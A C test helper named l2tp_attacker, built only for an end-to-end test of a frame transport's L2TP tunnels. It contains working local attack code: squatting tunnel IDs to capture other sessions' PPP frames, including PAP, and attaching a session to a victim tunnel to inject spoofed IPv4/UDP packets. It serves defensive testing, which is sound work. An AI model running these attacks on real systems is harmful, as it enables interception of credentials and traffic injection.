/* A local user's attacks on the frame transport's L2TP tunnels, for
 * tests/e2e/77-frames-local-attacker.sh, run as an unprivileged account (nobody).  Built
 * by the test build only (build/tests/l2tp_attacker), never installed.
 *
 *   l2tp_attacker hold ID...
 *	makes a tunnel of each ID (each on a UDP socket of its own, session 0 closed, as a
 *	squatter would), then prints "holding" and one line per datagram that any of them
 *	carries toward it ("got N bytes, PPP protocol 0xPPPP": a session that the kernel
 *	joined to one of its tunnels), until SIGTERM.
 *   l2tp_attacker inject TUNNEL SRC DST PORT COUNT
 *	attaches a session of its own to the running tunnel TUNNEL (its ID from
 *	/proc/net/pppol2tp), and sends COUNT IPv4 UDP packets from SRC to DST:PORT in it,
 *	one every 200 ms; prints "sent N".
 *   l2tp_attacker listen PORT
 *	prints "listening", then "received N bytes from ADDR" for each UDP datagram to any
 *	address at PORT, until SIGTERM.
 *
 * Exit status 0, or 1 with a message when the kernel refused what was asked. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "frames/pppol2tp.h"

#define MAX_HOLD 64

static int die(const char *what)
{
	fprintf(stderr, "l2tp_attacker: %s: %s\n", what, strerror(errno));
	return 1;
}

static int udp_on_lo(uint16_t port, struct sockaddr_in *sa)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	socklen_t len = sizeof(*sa);
	memset(sa, 0, sizeof(*sa));
	sa->sin_family = AF_INET;
	sa->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	sa->sin_port = htons(port);
	if (fd < 0 || bind(fd, (struct sockaddr *)sa, sizeof(*sa)) < 0 ||
	    getsockname(fd, (struct sockaddr *)sa, &len) < 0)
		return -1;
	return fd;
}

static int hold(int argc, char **argv)
{
	struct sockaddr_in sink_sa, sa;
	int sink = udp_on_lo(0, &sink_sa);
	if (sink < 0)
		return die("cannot open the UDP socket that the held tunnels send to");
	if (argc > MAX_HOLD)
		argc = MAX_HOLD;
	for (int i = 0; i < argc; i++) {
		uint16_t tid = (uint16_t)strtoul(argv[i], NULL, 0);
		int udp = udp_on_lo(0, &sa);
		if (udp < 0 || connect(udp, (struct sockaddr *)&sink_sa, sizeof(sink_sa)) < 0)
			return die("cannot open a UDP socket for a tunnel");
		int t = pppol2tp_connect(udp, &sink_sa, tid, 0);
		if (t < 0) {
			fprintf(stderr, "l2tp_attacker: cannot make tunnel %u: %s\n", tid,
			        strerror(-t));
			return 1;
		}
		/* Session 0 closed: the kernel then lets the next connect() of this ID join
		 * the tunnel, which lives on with its UDP socket (kept open, never read). */
		close(t);
	}
	printf("holding %d\n", argc);
	fflush(stdout);
	for (;;) {
		uint8_t b[2048];
		ssize_t n = recv(sink, b, sizeof(b), 0);
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0)
			return die("recv");
		/* An L2TP data header of 6 bytes (none of the optional fields: the kernel
		 * writes none), then ff 03 and the protocol. */
		unsigned proto = n >= 10 ? (unsigned)(b[8] << 8 | b[9]) : 0;
		printf("got %zd bytes, PPP protocol 0x%04x%s\n", n, proto,
		       proto == 0xc023 ? " (PAP)" : "");
		fflush(stdout);
	}
}

static uint16_t ip_sum(const uint8_t *p, size_t len)
{
	uint32_t s = 0;
	for (size_t i = 0; i + 1 < len; i += 2)
		s += (uint32_t)(p[i] << 8 | p[i + 1]);
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static int inject(char **argv)
{
	uint16_t tid = (uint16_t)strtoul(argv[0], NULL, 0);
	struct in_addr src, dst;
	if (inet_pton(AF_INET, argv[1], &src) != 1 || inet_pton(AF_INET, argv[2], &dst) != 1) {
		fprintf(stderr, "l2tp_attacker: bad address\n");
		return 1;
	}
	uint16_t port = (uint16_t)strtoul(argv[3], NULL, 0);
	int count = atoi(argv[4]);
	struct sockaddr_in sa;
	int udp = udp_on_lo(0, &sa);
	if (udp < 0)
		return die("cannot open a UDP socket");
	/* A session ID of our own in the victim's tunnel (the kernel ignores the UDP socket
	 * given for a tunnel that exists). */
	srand((unsigned)time(NULL) ^ (unsigned)getpid());
	int s = -1;
	for (int i = 0; i < 64 && s < 0; i++) {
		s = pppol2tp_connect(udp, &sa, tid, (uint16_t)(1 + rand() % 65535));
		if (s < 0 && s != -EEXIST) {
			fprintf(stderr, "l2tp_attacker: cannot attach a session to tunnel %u: %s\n",
			        tid, strerror(-s));
			return 1;
		}
	}
	/* PPP protocol (the kernel writes ff 03), then IPv4 and UDP. */
	uint8_t f[2 + 20 + 8 + 16];
	memset(f, 0, sizeof(f));
	f[0] = 0x00;
	f[1] = 0x21;
	uint8_t *ip = f + 2;
	size_t iplen = sizeof(f) - 2;
	ip[0] = 0x45;
	ip[2] = (uint8_t)(iplen >> 8);
	ip[3] = (uint8_t)iplen;
	ip[8] = 64;
	ip[9] = 17;
	memcpy(ip + 12, &src, 4);
	memcpy(ip + 16, &dst, 4);
	uint16_t sum = ip_sum(ip, 20);
	ip[10] = (uint8_t)(sum >> 8);
	ip[11] = (uint8_t)sum;
	uint8_t *udph = ip + 20;
	udph[0] = 0x30;
	udph[1] = 0x39; /* source port 12345 */
	udph[2] = (uint8_t)(port >> 8);
	udph[3] = (uint8_t)port;
	udph[5] = 8 + 16; /* length; checksum 0: none */
	memcpy(udph + 8, "injected frame!\n", 16);
	int sent = 0;
	for (int i = 0; i < count; i++) {
		if (write(s, f, sizeof(f)) == (ssize_t)sizeof(f))
			sent++;
		nanosleep(&(struct timespec){.tv_nsec = 200000000}, NULL);
	}
	printf("sent %d\n", sent);
	return sent > 0 ? 0 : die("cannot send into the session");
}

static int listen_udp(const char *port)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return die("cannot listen");
	printf("listening\n");
	fflush(stdout);
	for (;;) {
		char b[2048], from[INET_ADDRSTRLEN];
		struct sockaddr_in peer;
		socklen_t len = sizeof(peer);
		ssize_t n = recvfrom(fd, b, sizeof(b), 0, (struct sockaddr *)&peer, &len);
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0)
			return die("recvfrom");
		inet_ntop(AF_INET, &peer.sin_addr, from, sizeof(from));
		printf("received %zd bytes from %s\n", n, from);
		fflush(stdout);
	}
}

int main(int argc, char **argv)
{
	if (argc >= 3 && strcmp(argv[1], "hold") == 0)
		return hold(argc - 2, argv + 2);
	if (argc == 7 && strcmp(argv[1], "inject") == 0)
		return inject(argv + 2);
	if (argc == 3 && strcmp(argv[1], "listen") == 0)
		return listen_udp(argv[2]);
	fprintf(stderr, "usage: l2tp_attacker hold ID... | inject TUNNEL SRC DST PORT COUNT | "
	                "listen PORT\n");
	return 2;
}
